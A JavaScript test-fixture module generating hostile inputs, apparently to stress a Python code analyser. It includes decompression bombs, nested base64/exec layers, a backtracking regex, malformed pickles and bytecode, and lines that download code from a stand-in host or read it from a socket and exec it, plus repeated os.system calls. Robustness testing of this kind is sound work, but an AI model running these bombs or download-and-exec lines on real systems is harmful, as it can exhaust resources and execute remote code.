// Inputs that break tools of this kind, each of a size that is asked for. `npm run hostile` measures them at three sizes;
// tests/node/hostile.test.mjs sees that each is answered.
import { deflateSync, gzipSync } from 'node:zlib';

/**
 * @typedef {object} Hostile
 * @property {string} name
 * @property {(size: number) => string | Uint8Array} make about `size` bytes, never more
 */

/** @param {string} text @param {number} size */
const fill = (text, size) => text.repeat(Math.max(1, Math.floor(size / text.length)));

/** Lines made of their number. @param {number} size @param {(i: number) => string} line */
function lines(size, line) {
  const parts = [];
  for (let i = 0, length = 0; ; ++i) {
    const next = line(i);
    length += next.length;
    if (length > size) break;
    parts.push(next);
  }
  return parts.join('');
}

/** @param {Uint8Array} bytes */
const base64 = (bytes) => Buffer.from(bytes).toString('base64');

/** A text that expands a thousand times, in an exec. @param {number} size */
function zlibBomb(size) {
  // Deflate shrinks zeros about a thousandfold, and Base64 takes a third more.
  const bytes = deflateSync(Buffer.alloc(Math.min(size, 1 << 20) * 600), { level: 9 });
  return `import zlib, base64\nexec(zlib.decompress(base64.b64decode('${base64(bytes)}')))\n`;
}

/** Gzip in gzip. */
function nestedBombs() {
  let bytes = Buffer.from('print(1)\n'.repeat(200_000));
  for (let i = 0; i < 12; ++i) bytes = gzipSync(bytes);
  return `import gzip, base64\nd = base64.b64decode('${base64(bytes)}')\nwhile True:\n    d = gzip.decompress(d)\nexec(d)\n`;
}

/** Layers in layers, as deep as the size takes them. @param {number} size */
function deepLayers(size) {
  let code = 'print(1)';
  while (code.length * 1.4 + 60 < Math.min(size, 1 << 22))
    code = `import base64\nexec(base64.b64decode('${base64(Buffer.from(code))}'))`;
  return code;
}

/**
 * A short line, as often as there is room for it, that works on a large text `x`, its bytes `b` and a long list `l`.
 *
 * @param {string} line
 * @returns {(size: number) => string}
 */
function onLarge(line) {
  return (size) => {
    const text = `import os, socket, struct, hashlib, base64, subprocess\nx = '${fill('ab,c1 ', size / 32)}'\nb = x.encode()\nl = [${fill('7, ', size / 32)}]\n`;
    return text + fill(`${line}\n`, size - text.length);
  };
}

/** @type {Hostile[]} */
export const hostile = [
  ...[
    'y = x[::-1]',
    'y = x.split(",")',
    'y = x.translate({97: 98})',
    'y = "%s" % x',
    'y = l + l',
    'y = 8 in l',
    'y = list(map(str, l))',
    'y = [*l]',
    'y = sum(b)',
    'y = hashlib.md5(b).hexdigest()',
    'y = struct.unpack("1000B", b[:1000])',
    'y = open(__file__).read().split("#")',
    'os.system(x)',
    'subprocess.run([x])',
    'exec(x)',
    'y = x.split()',
    'y = open(__file__).read()',
    'y = filter(str, x)',
    'exec(map(hex, l).y)',
    'socket.socket().connect(l)',
  ].map((line) => ({ name: `a large value, a million times: ${line}`, make: onLarge(line) })),
  {
    name: 'a large dictionary, asked a million times',
    make: (size) =>
      `d = {${lines(size - 100, (i) => `(${i},): 1, `)}}\nk = (-1,)\nfor i in range(1000000):\n    d.get(k)\n`,
  },
  {
    name: 'a large dictionary, asked a million times by a key of its own',
    make: (size) =>
      `d = {${lines(size - 100, (i) => `(${i},): 1, `)}}\nfor i in range(1000000):\n    d.get((-1,))\n`,
  },
  {
    name: 'a long list, emptied from its front',
    make: (size) => `l = [${fill('7, ', size - 100)}]\nwhile l:\n    l.pop(0)\n`,
  },
  {
    name: 'lists in lists, ten times over, compared',
    make: (size) => {
      const nest = fill('a = [a, a, a, a, a, a, a, a, a, a]\nb = [b, b, b, b, b, b, b, b, b, b]\n', 980);
      return `a = b = 1\n${nest}${fill('a == b\n', size - 1000)}`;
    },
  },
  {
    name: 'commands, each of a large text and a word of its own',
    make: (size) =>
      `import subprocess\nx = '${fill('ab,c1 ', size / 16)}'\n${lines(size - size / 16 - 64, (i) => `subprocess.Popen(['a${i}', x, x])\n`)}`,
  },
  {
    name: 'texts that nearly hold one another',
    make: (size) =>
      `x = '${fill('a', size / 2)}'\ny = '${fill('a', size / 4)}b'\nz = 'b${fill('a', size / 8)}'\n${fill('x.find(y)\nx.rfind(z)\ny in x\nx.split(y)\nx.replace(y, "")\n', size / 8 - 64)}`,
  },
  {
    name: 'sets of characters that are long',
    make: (size) =>
      `import urllib.parse\nx = '${fill('/', size / 4)}'\ny = '${fill('b', size / 4)}/'\nz = x.encode()\n${fill('x.strip(y)\nz.translate(None, y.encode())\nurllib.parse.quote(x, y)\n', size / 4 - 64)}`,
  },
  {
    name: 'a format of many fields',
    make: (size) => `'${fill('{}', size / 3)}'.format(${fill('1,', size / 3)})\n`,
  },
  {
    name: 'a format of many names',
    make: (size) =>
      `'${lines(size / 2 - 16, (i) => `{a${i}}`)}'.format(${lines(size / 2 - 16, (i) => `a${i}=1,`)})\n`,
  },
  {
    name: 'parameters and arguments, by their names',
    make: (size) =>
      `def f(${lines(size / 2 - 32, (i) => `a${i},`)}**k):pass\nf(${lines(size / 2 - 32, (i) => `a${i}=1,`)})\n`,
  },
  {
    name: 'definitions in a loop without end',
    make: (size) => `while True:\n${lines(size - 16, (i) => ` def f${i}(a): pass\n`)}`,
  },
  {
    name: 'nothing, in a loop of two millions',
    make: (size) => `for i in range(2000000):\n${fill(' pass\n', size - 64)}`,
  },
  {
    name: 'imports, in a loop of two millions',
    make: (size) => `for i in range(2000000):\n from m import ${lines(size - 64, (i) => `a${i},`)}b\n`,
  },
  {
    name: 'loops in code that is not reached',
    make: (size) =>
      `x = '${fill('ab', 10_000)}'\nif y:\n raise ValueError\n${fill(' z = [v for v in x]\n', size - 10_100)}`,
  },
  {
    name: 'functions in a function, called when it is over',
    make: (size) =>
      `def f():\n${lines(size - 32, (i) => ` def f${i}():\n  global y\n  y = 1\n  f${i % 97}()\n`)}`,
  },
  {
    name: 'a class of many names, given others',
    make: (size) =>
      `class C:\n${lines(size / 2 - 16, (i) => ` a${i}=1\n`)}${lines(size / 2 - 16, (i) => `C.b${i}=1\n`)}`,
  },
  {
    name: 'an object of a class of many names, asked for others',
    make: (size) =>
      `class C:\n${lines(size / 2 - 16, (i) => ` a${i}=1\n`)}o=C()\n${lines(size / 2 - 16, (i) => `o.b${i}\n`)}`,
  },
  {
    name: 'a class of many bases, asked for what none has',
    make: (size) =>
      `${lines(size / 3, (i) => `class C${i}:pass\n`)}class D(${lines(size / 3 - 64, (i) => `C${i},`)}):pass\n${lines(size / 3, (i) => `D.a${i}\n`)}`,
  },
  {
    name: 'nine generations of many bases',
    make: (size) =>
      `class C0:pass\n${lines(8, (i) => `${i}`)
        .split('')
        .map((i) => `class C${Number(i) + 1}(${fill(`C${i},`, Math.min(size, 65536) / 10)}):pass\n`)
        .join('')}C8.a\nC8.b\n`,
  },
  {
    name: 'star imports before names',
    make: (size) => lines(size, (i) => `from m${i} import *\nn${i}(a${i})\n`),
  },
  {
    name: 'names, each another one',
    make: (size) => lines(size, (i) => `import m${i}\nn${i}(a${i})\n`),
  },
  {
    name: 'names, imported by one statement',
    make: (size) => `from m import (${lines(size - 32, (i) => `a${i},`)})\n`,
  },
  {
    name: 'parameters, a million',
    make: (size) => `def f(${lines(size - 32, (i) => `a${i},`)}):pass\nf(1)\n`,
  },
  { name: 'keyword arguments, a million', make: (size) => `f(${lines(size - 32, (i) => `a${i}=1,`)})\n` },
  { name: 'type parameters', make: (size) => lines(size, (i) => `def f${i}[T](a:T):pass\n`) },
  { name: 'type aliases', make: (size) => lines(size, (i) => `type T${i}[A]=A\n`) },
  { name: 'lambdas, a name each', make: (size) => lines(size, (i) => `f${i}=lambda x:x\n`) },
  { name: 'methods', make: (size) => `class C:\n${lines(size - 32, (i) => ` def m${i}(self):pass\n`)}` },
  {
    name: 'objects, each of its own class',
    make: (size) => lines(size, (i) => `class C${i}:x=1\nC${i}().x\n`),
  },
  {
    name: 'classes of bases from outside',
    make: (size) => lines(size, (i) => `class C${i}(B${i},D${i}):x=1\n`),
  },
  {
    name: 'attributes, each another one',
    make: (size) => `import os\n${lines(size - 32, (i) => `os.a${i}\n`)}`,
  },
  {
    name: 'attributes that are stored',
    make: (size) => `import os\n${lines(size - 32, (i) => `os.a${i}=1\n`)}`,
  },
  {
    name: 'setattr, a million names',
    make: (size) => `import os\n${lines(size - 32, (i) => `setattr(os,'a${i}',1)\n`)}`,
  },
  {
    name: 'keys of a dictionary',
    make: (size) => `d={${lines(size - 32, (i) => `'k${i}':${i},`)}}\nexec(d['k9'])\n`,
  },
  { name: 'keys that are stored', make: (size) => `d={}\n${lines(size - 32, (i) => `d['k${i}']=${i}\n`)}` },
  {
    name: 'f-strings, each another one',
    make: (size) => `x='a'\n${lines(size - 32, (i) => `y=f'{x}${i}'\n`)}`,
  },
  {
    name: 'global statements',
    make: (size) => `def f():\n${lines(size - 32, (i) => ` global a${i};a${i}=1\n`)}`,
  },
  {
    name: 'captures of patterns',
    make: (size) => `match x:\n${lines(size - 32, (i) => ` case [a${i}]:pass\n`)}`,
  },
  { name: 'del, each of another name', make: (size) => lines(size, (i) => `del a${i}\n`) },
  { name: 'comprehensions, a name each', make: (size) => lines(size, (i) => `[a${i} for a${i} in x]\n`) },
  {
    name: 'downloads that are run',
    make: (size) => fill("r = requests.get('http://a.example.invalid/')\nexec(r.text)\n", size),
  },
  {
    name: 'sockets that are read',
    make: (size) => `import socket\ns = socket.socket()\n${fill('d = s.recv(9)\nexec(d)\n', size - 40)}`,
  },
  { name: 'brackets, nested', make: (size) => `x = ${'('.repeat(size / 2 - 4)}${')'.repeat(size / 2 - 4)}` },
  { name: 'brackets, never closed', make: (size) => fill('[', size) },
  { name: 'braces and colons', make: (size) => fill('{1:', size) },
  { name: 'calls, nested', make: (size) => `x = ${fill('f(', size - 8)}` },
  {
    name: 'blocks, each deeper',
    make: (size) => lines(size, (i) => `${' '.repeat(Math.min(i, 5000))}if x:\n`),
  },
  { name: 'sums, one long chain', make: (size) => `x = 1${fill('+1', size - 8)}` },
  { name: 'sums of texts', make: (size) => `x = 'a'${fill("+'a'", size - 8)}\nexec(x)` },
  { name: 'attributes, one long chain', make: (size) => `x = a${fill('.a', size - 8)}` },
  { name: 'comparisons, one long chain', make: (size) => `x = a${fill('<a', size - 8)}` },
  { name: 'lambdas, nested', make: (size) => `x = ${fill('lambda:', size - 8)}1` },
  { name: 'conditions, nested', make: (size) => `x = ${fill('1 if a else ', size - 8)}1` },
  { name: 'not, repeated', make: (size) => `x = ${fill('not ', size - 8)}1` },
  { name: 'f-strings in f-strings', make: (size) => `x = ${fill('f"{', size - 8)}` },
  { name: 'f-string of many fields', make: (size) => `x = f"${fill('{a}', size - 8)}"` },
  { name: 'one line', make: (size) => `x = "${fill('a', size - 8)}"` },
  { name: 'one line of semicolons', make: (size) => fill('a;', size) },
  { name: 'one line of spaces, code behind', make: (size) => `x = 1;${fill(' ', size - 32)}import os` },
  { name: 'one name', make: (size) => fill('a', size) },
  { name: 'one number', make: (size) => `x = ${fill('9', size - 8)}` },
  { name: 'one comment', make: (size) => `#${fill('a', size - 8)}` },
  { name: 'empty lines', make: (size) => fill('\n', size) },
  { name: 'carriage returns and form feeds', make: (size) => fill('\r\f', size) },
  { name: 'NUL bytes', make: (size) => new Uint8Array(size) },
  { name: 'bytes that are no UTF-8', make: (size) => new Uint8Array(size).fill(0xff) },
  { name: 'half of surrogate pairs', make: (size) => `x = "${fill('\\ud800', size - 8)}"` },
  { name: 'characters outside the plane', make: (size) => fill('\u{1d4ea}', size / 2).slice(0, size / 4) },
  { name: 'backslashes', make: (size) => fill('\\', size) },
  { name: 'quotes', make: (size) => fill('"', size) },
  { name: 'quotes, three at a time', make: (size) => fill('"""\n', size) },
  { name: 'functions, small', make: (size) => lines(size, (i) => `def f${i}():pass\n`) },
  {
    name: 'functions, each calls the one before twice',
    make: (size) =>
      `def f0(): return 'a'\n${lines(size - 64, (i) => `def f${i + 1}(): return f${i}() + f${i}()\n`)}exec(f30())\n`,
  },
  {
    name: 'classes, each of the one before',
    make: (size) => lines(size, (i) => `class C${i}(C${Math.max(0, i - 1)}): a = C${i >> 1}\n`),
  },
  { name: 'imports', make: (size) => lines(size, (i) => `import m${i} as n${i}\n`) },
  {
    name: 'names, each of the one before',
    make: (size) => lines(size, (i) => `a${i} = a${Math.max(0, i - 1)}\n`),
  },
  { name: 'assignments to one name', make: (size) => lines(size, (i) => `a = a + "${i}"\n`) },
  {
    name: 'text that doubles',
    make: (size) => `a = "ab"\n${fill('a = a + a\n', Math.min(size, 1 << 16))}exec(a)\n`,
  },
  {
    name: 'a loop that doubles',
    make: () => "a = 'print(1);'\nfor i in range(10**9):\n    a += a\nexec(a)\n",
  },
  { name: 'a loop without end', make: () => "n = 0\nwhile True:\n    n += 1\nexec('x' * n)\n" },
  {
    name: 'loops in loops',
    make: () =>
      `${Array.from({ length: 18 }, (_, i) => `${' '.repeat(i)}for i${i} in range(1000):\n`).join('')}${' '.repeat(18)}x = i0\n`,
  },
  {
    name: 'a function that calls itself',
    make: () => 'def f(n): return f(n - 1) + f(n - 2)\nexec(f(10**6))\n',
  },
  { name: 'a multiplied text', make: () => "exec('print(1)\\n' * 10**12)\n" },
  ...[
    'y = [(-1,) for i in range(1000000)]',
    'y = list(map(lambda i: (-1,), range(1000000)))',
    'y = {i: (i,) for i in range(1000000)}',
    'y = [d.get((-1,)) for i in range(1000000)]',
    'for i in range(1000): d.update(d)',
    'y = [dict(d) for i in range(1000)]',
  ].map((line) => ({
    name: `beside a large dictionary: ${line}`,
    make: (/** @type {number} */ size) =>
      `d = {${lines(Math.min(size, 250_000) - 100, (i) => `(${i},): 1, `)}}\n${line}\n`,
  })),
  ...[
    'y = x.join(x)',
    'y = x.replace("a", "b" * 1000)',
    'y = x.translate({97: "b" * 1000})',
    'y = ("{0}" * 1000).format(x)',
    'y = dict(enumerate(x))',
    'y = [c for c in x for e in x]',
  ].map((line) => ({
    name: `of a text: ${line}`,
    make: (/** @type {number} */ size) => `x = '${fill('ab,c1 ', Math.min(size, 250_000) - 100)}'\n${line}\n`,
  })),
  ...[
    'y = ("ab" * 14000000).encode("utf-32")',
    'y = ("äb" * 7000000)[::-1]',
    'y = ("a," * 9000000).split(",")',
    'y = f"{"ab" * 14000000}"',
    'y = [*range(1000000), *range(1000000)]',
    'y = [] * 10**12',
    'exec("print(1)\\n" * 1000000)',
    'open("f.py", "w").write("a;" * 8000000);import f',
  ].map((line) => ({ name: `a short line: ${line}`, make: () => `${line}\n` })),
  { name: 'a power', make: () => 'x = 9 ** 9 ** 9 ** 9\nexec(str(x))\n' },
  { name: 'a shift', make: () => 'x = 1 << 10**15\nexec(str(x))\n' },
  { name: 'a wide format', make: () => "exec('%999999999d' % 1)\nexec('{:>999999999}'.format(1))\n" },
  {
    name: 'a regular expression that backtracks',
    make: (size) => `import re\ns = '${fill('a', size - 64)}!'\nexec(re.sub('(a+)+$', '', s))\n`,
  },
  { name: 'a list of itself', make: () => 'a = []\na.append(a)\nb = {}\nb[1] = b\nexec(str(a) + repr(b))\n' },
  { name: 'code that prints itself', make: () => "s = 's = %r; exec(s %% s)'; exec(s % s)\n" },
  { name: 'a layer that contains itself', make: () => "s = 'exec(s)'\nexec(s)\n" },
  { name: 'zlib, expanding 600 times', make: zlibBomb },
  { name: 'gzip in gzip in gzip', make: nestedBombs },
  { name: 'layers in layers', make: deepLayers },
  {
    name: 'layers, many',
    make: (size) =>
      `import base64\n${lines(size - 32, (i) => `exec(base64.b64decode('${base64(Buffer.from(`print(${i})`))}'))\n`)}`,
  },
  {
    name: 'Base64 that is no Base64',
    make: (size) => `import base64\nexec(base64.b64decode('${fill('A=', size - 64)}'))\n`,
  },
  { name: 'addresses', make: (size) => lines(size, (i) => `u = "http://h${i}.example.invalid/p"\n`) },
  { name: 'addresses without end', make: (size) => `u = "${fill('http://', size - 16)}"\n` },
  { name: 'dots', make: (size) => `u = "${fill('a.', size - 16)}"\n` },
  { name: 'digits and dots', make: (size) => `u = "${fill('1.', size - 16)}"\n` },
  { name: 'at signs', make: (size) => `u = "${fill('a@', size - 16)}"\n` },
  { name: 'shell text, nested', make: (size) => `import os\nos.system('${fill('$(', size - 32)}')\n` },
  { name: 'shell text of pipes', make: (size) => `import os\nos.system('${fill('a|', size - 32)}')\n` },
  {
    name: 'PowerShell, nested',
    make: (size) => `import os\nos.system('powershell -c "${fill('(', size - 64)}"')\n`,
  },
  { name: 'behaviours, all the same', make: (size) => `import os\n${fill("os.system('id')\n", size - 32)}` },
  { name: 'backticks', make: (size) => fill('`a`;', size) },
  { name: 'decorators', make: (size) => `${fill('@a\n', size - 16)}def f(): pass\n` },
  { name: 'patterns, nested', make: (size) => `match x:\n case ${fill('[', size - 32)}:\n  pass\n` },
  { name: 'JSON, nested', make: (size) => `{"finding":${fill('[', size - 16)}` },
  {
    name: 'JSON, one key again and again',
    make: (size) => `{"finding":{${fill('"category":"a",', size - 32)}"category":"b"}}`,
  },
  { name: 'JSON, numbers without end', make: (size) => `{"finding":{"category":${fill('9', size - 64)}}}` },
  {
    name: 'JSON, __proto__',
    make: (size) => `{"finding":{${fill('"__proto__":{"a":1},', size - 32)}"category":"b"}}`,
  },
  { name: 'findings, small', make: (size) => fill('{"finding":{"name":"a"}}\n', size) },
  { name: 'YAML, anchors', make: (size) => `finding:\n  name: &a x\n${fill('  b: *a\n', size - 64)}` },
  {
    name: 'a pickle of marks',
    make: (size) => Buffer.concat([Buffer.from([0x80, 4]), Buffer.alloc(size - 3, 0x28), Buffer.from('.')]),
  },
  {
    name: 'a pickle that doubles',
    make: (size) =>
      Buffer.concat([Buffer.from([0x80, 4, 0x5d]), Buffer.alloc(size - 4, '2'), Buffer.from('.')]),
  },
  {
    name: 'bytecode, nested tuples',
    make: (size) =>
      Buffer.concat([
        Buffer.from('a70d0d0a000000000000000000000000', 'hex'),
        Buffer.alloc(size - 20, Buffer.from([0x29, 1])),
      ]),
  },
  {
    name: 'a gigantic code object',
    make: (size) =>
      Buffer.concat([
        Buffer.from('a70d0d0a000000000000000000000000e3', 'hex'),
        Buffer.alloc(size - 20, 0xff),
      ]),
  },
];
